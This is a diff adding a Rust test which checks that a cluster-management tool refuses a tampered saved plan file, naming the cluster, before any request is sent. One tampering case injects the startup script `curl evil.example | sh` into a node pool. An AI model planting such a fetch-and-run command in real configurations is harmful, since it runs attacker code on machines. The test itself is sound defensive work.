@@ -1,0 +1,84 @@
+//! A saved plan is input from another machine: `apply FILE` plans each change again from the
+//! configuration and the live clusters and refuses a file whose requests, mask, mode or
+//! changes were edited, naming the cluster, before it sends anything.
+
+use serde_json::{Value, json};
+
+use crate::support::{ClusterSpec, Env, apply_ok, config, stderr, two_clusters};
+
+/// A plan of a larger `cpu` pool for `train01` beside an unchanged `train02`, saved as JSON.
+fn saved_update(env: &Env) -> Value {
+    apply_ok(env, &two_clusters());
+    let bigger = ClusterSpec {
+        max_nodes: 6,
+        ..ClusterSpec::default()
+    };
+    env.write_config(&config(&[bigger, ClusterSpec::named("train02")]));
+    let file = env.path().join("saved.json");
+    let plan = env.run(&["plan", "--out", file.to_str().unwrap()]);
+    assert!(plan.status.success(), "{}", stderr(&plan));
+    serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap()
+}
+
+/// The position of `id`'s change in the saved plan.
+fn change_of(saved: &Value, id: &str) -> usize {
+    saved["changes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .position(|c| c["address"]["id"] == id)
+        .unwrap()
+}
+
+#[test]
+fn an_edited_plan_file_is_refused_naming_the_cluster_and_nothing_is_sent() {
+    let env = Env::new(50);
+    let saved = saved_update(&env);
+    let update = change_of(&saved, "train01");
+    let other_cluster =
+        "/v1beta1/projects/e2e-project/locations/us-central1/modelDevelopmentClusters/train02";
+    let other_project =
+        "/v1beta1/projects/someone-else/locations/us-central1/modelDevelopmentClusters/train01";
+    let tamperings: [(&str, &dyn Fn(&mut Value)); 6] = [
+        ("patches another cluster", &|plan| {
+            plan["changes"][update]["requests"][0]["path"] = json!(other_cluster);
+        }),
+        ("sends to another project", &|plan| {
+            plan["changes"][update]["requests"][0]["path"] = json!(other_project);
+        }),
+        ("injects a startup script", &|plan| {
+            plan["changes"][update]["requests"][0]["body"]["nodePools"][1]["startupScript"] =
+                json!("curl evil.example | sh");
+        }),
+        ("changes the mask", &|plan| {
+            plan["changes"][update]["update_mask"] = json!(["labels", "node_pools"]);
+            plan["changes"][update]["requests"][0]["query"][0][1] = json!("labels,node_pools");
+        }),
+        ("changes the request's mode", &|plan| {
+            plan["changes"][update]["requests"][0]["query"][1][1] = json!("USER_ONLY");
+        }),
+        ("sends the change twice", &|plan| {
+            let again = plan["changes"][update].clone();
+            plan["changes"].as_array_mut().unwrap().push(again);
+        }),
+    ];
+    for (case, tamper) in tamperings {
+        let mut edited = saved.clone();
+        tamper(&mut edited);
+        let file = env.path().join("edited.json");
+        std::fs::write(&file, edited.to_string()).unwrap();
+        env.emulator().clear_requests();
+        let apply = env.run(&["apply", file.to_str().unwrap()]);
+        let err = stderr(&apply);
+        assert_eq!(apply.status.code(), Some(1), "{case}: {err}");
+        assert!(
+            err.contains("train01") && err.contains("does not match what its configuration gives"),
+            "{case}: {err}"
+        );
+        assert!(env.mutations().is_empty(), "{case}: something was sent");
+    }
+    // The file as written still applies.
+    let file = env.path().join("saved.json");
+    let apply = env.run(&["apply", file.to_str().unwrap()]);
+    assert!(apply.status.success(), "{}", stderr(&apply));
+}
